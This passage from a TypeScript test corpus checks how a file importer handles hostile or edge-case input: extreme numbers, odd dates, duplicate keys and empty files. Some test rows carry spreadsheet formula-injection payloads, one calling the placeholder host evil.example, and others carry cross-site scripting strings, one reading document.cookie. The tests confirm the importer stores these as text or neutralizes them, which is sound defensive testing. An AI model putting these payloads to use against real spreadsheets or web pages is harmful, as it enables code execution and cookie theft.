    name: "numbers at the edges of their types (CSV, orders)",
    fileName: "numbers.csv",
    templateId: "orders",
    build: () =>
      csvFile([
        ORDER_HEADER,
        order("o-1", "1000000", "1.7976931348623157e308"),
        order("o-2", "9007199254740993", "1"),
        order("o-3", "-0", "1"),
        order("o-4", "1", "-0"),
        order("o-5", "1", "1e309"),
        order("o-6", "1", "NaN"),
        order("o-7", "1", "Infinity"),
        order("o-8", "1", "123456789012345678901234567890.123456789"),
        order("o-9", "1", "5e-324"),
        order("o-10", "1", "0.1e-400"),
        order("o-11", "4.0", "1"),
        order("o-12", "1e3", "1"),
        order("o-13", "１２", "1"),
        order("o-14", "+5", "1"),
        order("o-15", "0x10", "1"),
        order("o-16", " 7 ", "1"),
        order("o-17", "1", "-0.000001"),
      ]),
    expected: {
      state: "completed_with_errors",
      counts: { rows: 17, valid: 7, rejected: 10 },
      reportRows: [
        { row: 3, reason: /^quantity: is too large/ },
        { row: 4, reason: /^quantity: must be between 1 and 1000000$/ },
        { row: 6, reason: /^total: is too large$/ },
        { row: 7, reason: /^total: must be a number/ },
        { row: 8, reason: /^total: must be a number/ },
        { row: 12, reason: /^quantity: must be a whole number$/ },
        { row: 13, reason: /^quantity: must be a whole number$/ },
        { row: 14, reason: /^quantity: must be a whole number$/ },
        { row: 16, reason: /^quantity: must be a whole number$/ },
        { row: 18, reason: /^total: must be at least 0$/ },
      ],
      stored: {
        "o-1": { quantity: 1_000_000, total: "1.7976931348623157e308" },
        "o-4": { total: "-0" },
        "o-8": { total: "123456789012345678901234567890.123456789" },
        "o-9": { total: "5e-324" },
        "o-14": { quantity: 5 },
        "o-16": { quantity: 7 },
      },
    },
  },
  {
    // As documented: a JSON number is read as a JavaScript number, so past 15-17 significant digits it is rounded
    // (send such decimals as strings); a CSV decimal keeps its digits as written.
    name: "numbers at the edges of their types (JSON Lines, orders)",
    fileName: "numbers.jsonl",
    templateId: "orders",
    build: () =>
      jsonLines([
        order1,
        JSON.stringify({ ...order1, order_id: "j-2" }).replace('"quantity":1', '"quantity":1e309'),
        JSON.stringify({ ...order1, order_id: "j-3" }).replace('"quantity":1', '"quantity":9007199254740993'),
        JSON.stringify({ ...order1, order_id: "j-4" }).replace('"total":1', '"total":123456789012345678901234567890.5'),
        JSON.stringify({ ...order1, order_id: "j-5" }).replace('"quantity":1', '"quantity":NaN'),
        { ...order1, order_id: "j-6", quantity: "12" },
      ]),
    expected: {
      state: "completed_with_errors",
      counts: { rows: 6, valid: 3, rejected: 3 },
      reportRows: [
        { row: 2, reason: /^quantity: must be a whole number$/ },
        { row: 3, reason: /^quantity: is too large/ },
        { row: 5, reason: /^line is not valid JSON$/ },
      ],
      stored: { "j-4": { total: "1.2345678901234568e+29" }, "j-6": { quantity: 12 } },
    },
  },
  {
    // Chosen: only YYYY-MM-DD is a date; day/month orders are never guessed, and a date-time is not a date.
    name: "dates in ambiguous and impossible formats are rejected, real ones kept",
    fileName: "dates.csv",
    templateId: "contacts",
    build: () =>
      csvFile([
        `${HEADER},signup_date`,
        ...["01/02/2024", "2024-13-01", "2024-02-30", "2024-02-29", "2023-02-29", "02.01.2024", "2024-1-5", "20240102", "2024-01-02T00:00:00Z", " 2024-01-02 "].map(
          (date, index) => `${person(index + 1)},${date}`,
        ),
      ]),
    expected: {
      state: "completed_with_errors",
      counts: { rows: 10, valid: 2, rejected: 8 },
      reportRows: [2, 3, 4, 6, 7, 8, 9, 10].map((row) => ({ row, reason: /^signup_date: must be a date as YYYY-MM-DD$/ })),
      stored: { "p4@example.com": { signup_date: "2024-02-29" }, "p10@example.com": { signup_date: "2024-01-02" } },
    },
  },
  {
    name: "dates in the years 0001 to 0099 are real dates",
    fileName: "early-dates.csv",
    templateId: "contacts",
    build: () => csvFile([`${HEADER},signup_date`, `${person(1)},0001-01-01`, `${person(2)},0099-12-31`, `${person(3)},1970-01-01`]),
    expected: { state: "succeeded", counts: { rows: 3, valid: 3, rejected: 0 }, stored: { "p1@example.com": { signup_date: "0001-01-01" }, "p2@example.com": { signup_date: "0099-12-31" } } },
  },
  {
    name: "formula-injection values in valid rows are stored as text",
    fileName: "formulas-valid.csv",
    templateId: "contacts",
    build: () => csvFile([`${HEADER},company`, csvRow(["+cmd@example.com", FORMULAS[0]!, FORMULAS[1]!, FORMULAS[2]!]), csvRow(["-1+1@example.com", FORMULAS[3]!, "=1+1", "@SUM(A1:A9)"])]),
    expected: {
      state: "succeeded",
      counts: { rows: 2, valid: 2, rejected: 0 },
      stored: {
        "+cmd@example.com": { first_name: FORMULAS[0], last_name: FORMULAS[1], company: FORMULAS[2] },
        "-1+1@example.com": { first_name: FORMULAS[3], last_name: "=1+1", company: "@SUM(A1:A9)" },
      },
    },
  },
  {
    name: "formula-injection values in rejected rows are neutralized in the error report",
    fileName: "formulas-rejected.csv",
    templateId: "contacts",
    build: () => csvFile([`${HEADER},=cmd|' /C calc'!A0`, csvRow(FORMULAS), csvRow(["not-an-email", "\t=1+1", "-2", "@x"])]),
    expected: {
      state: "completed_with_errors",
      counts: { rows: 2, valid: 0, rejected: 2 },
      reportRows: [
        { row: 2, reason: /^email: must be an e-mail address$/, cells: FORMULAS.map((formula) => `'${formula}`) },
        { row: 3, reason: /^email: must be an e-mail address$/, cells: ["not-an-email", "'\t=1+1", "'-2", "'@x"] },
      ],
    },
  },
  {
    // Spreadsheets accept line breaks inside a formula: a cell is a formula by its first character, whatever follows.
    name: "a formula holding a line break in a rejected row is neutralized in the error report",
    fileName: "formula-newline.csv",
    templateId: "contacts",
    build: () => csvFile([HEADER, csvRow(["not-an-email", '=HYPERLINK("http://evil.example","click")\nsee notes', "+1\r\n+2"])]),
    expected: {
      state: "completed_with_errors",
      counts: { rows: 1, valid: 0, rejected: 1 },
      // (The CRLF inside the quoted cell reads as LF, as every line break does.)
      reportRows: [{ row: 2, reason: /^email: must be an e-mail address$/, cells: ["not-an-email", '\'=HYPERLINK("http://evil.example","click")\nsee notes', "'+1\n+2"] }],
    },
  },
  {
    name: "HTML and script payloads are stored as given",
    fileName: "html.csv",
    templateId: "contacts",
    build: () =>
      csvFile([
        `${HEADER},company`,
        csvRow(["p1@example.com", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg/onload=alert(document.cookie)>']),
        csvRow(["p2@example.com", "javascript:alert(1)", "{{constructor.constructor('alert(1)')()}}", "${7*7}</td></tr></table>"]),
      ]),
    expected: {
      state: "succeeded",
      counts: { rows: 2, valid: 2, rejected: 0 },
      stored: {
        "p1@example.com": { first_name: "<script>alert(1)</script>", last_name: "<img src=x onerror=alert(1)>", company: '"><svg/onload=alert(document.cookie)>' },
        "p2@example.com": { first_name: "javascript:alert(1)", last_name: "{{constructor.constructor('alert(1)')()}}", company: "${7*7}</td></tr></table>" },
      },
    },
  },
];

const duplicates: HostileCase[] = [
  {
    name: "duplicate record keys in one chunk (differing in case): the first is kept",
    fileName: "duplicates.csv",
    templateId: "contacts",
    build: () => csvFile([HEADER, "a@example.com,A1,Last", person(2), "A@EXAMPLE.COM,A2,Last", "a@example.com,A3,Last"]),
    expected: {
      state: "completed_with_errors",
      counts: { rows: 4, valid: 2, rejected: 2 },
      reportRows: [4, 5].map((row) => ({ row, reason: /^duplicate record key "a@example\.com": an earlier row of the file has it$/ })),
      stored: { "a@example.com": { first_name: "A1" } },
    },
  },
  {
    name: "duplicate record keys across chunks: one occurrence is stored, the others reported",
    fileName: "duplicates-across-chunks.csv",
    templateId: "contacts",
    build: () => {
      const generated = generateContactsCsv({ rows: 3000, invalidEvery: 1_000_000 });
      const lines = generated.csv.trimEnd().split("\r\n");
      return csvFile([...lines, lines[1]!.replace(/,[^,]*,/, ",Again,"), lines[2000]!.replace(/,[^,]*,/, ",Again,")]);
    },
    expected: {
      state: "completed_with_errors",
      counts: { rows: 3002, valid: 3000, rejected: 2 },
      minChunks: 4,
      reportReasonCounts: [{ reason: /^duplicate record key "[^"]+": row \d+ has it$/, count: 2 }],
    },
  },
];

const emptyFiles: HostileCase[] = [
  { name: "an empty file fails as empty", fileName: "empty.csv", templateId: "contacts", build: () => Buffer.alloc(0), expected: { state: "failed", failureReason: /^The file is empty/ } },
  {
    name: "a file of blank lines fails as empty",
    fileName: "blank.csv",
    templateId: "contacts",
    build: () => Buffer.from("\r\n  \r\n\t\r\n"),
    expected: { state: "failed", failureReason: /^The file is empty/ },
  },
  {
    name: "a header-only file succeeds with no rows",
    fileName: "header-only.csv",
    templateId: "contacts",
    build: () => csvFile([HEADER]),
    expected: { state: "succeeded", counts: { rows: 0, valid: 0, rejected: 0 } },
  },
  {
    name: "a header-only file without a final line break succeeds with no rows",
    fileName: "header-only-no-newline.csv",
    templateId: "contacts",
    build: () => Buffer.from(HEADER),
    expected: { state: "succeeded", counts: { rows: 0, valid: 0, rejected: 0 } },
  },
];

/**
 * The corpus, in the order the test imports it: the big files first, while the
 * process's RSS is still low (memory a case frees is reused, not given back, so
 * a later case's growth would hide in it).
 */
export const HOSTILE_CASES: readonly HostileCase[] = [
  ...limitsAndCompression,
  ...quoting,
  ...lineEndings,
  ...encodings,
  ...headersAndRows,
  ...fileKinds,
  ...jsonLineCases,
  ...values,
  ...duplicates,
  ...emptyFiles,
];
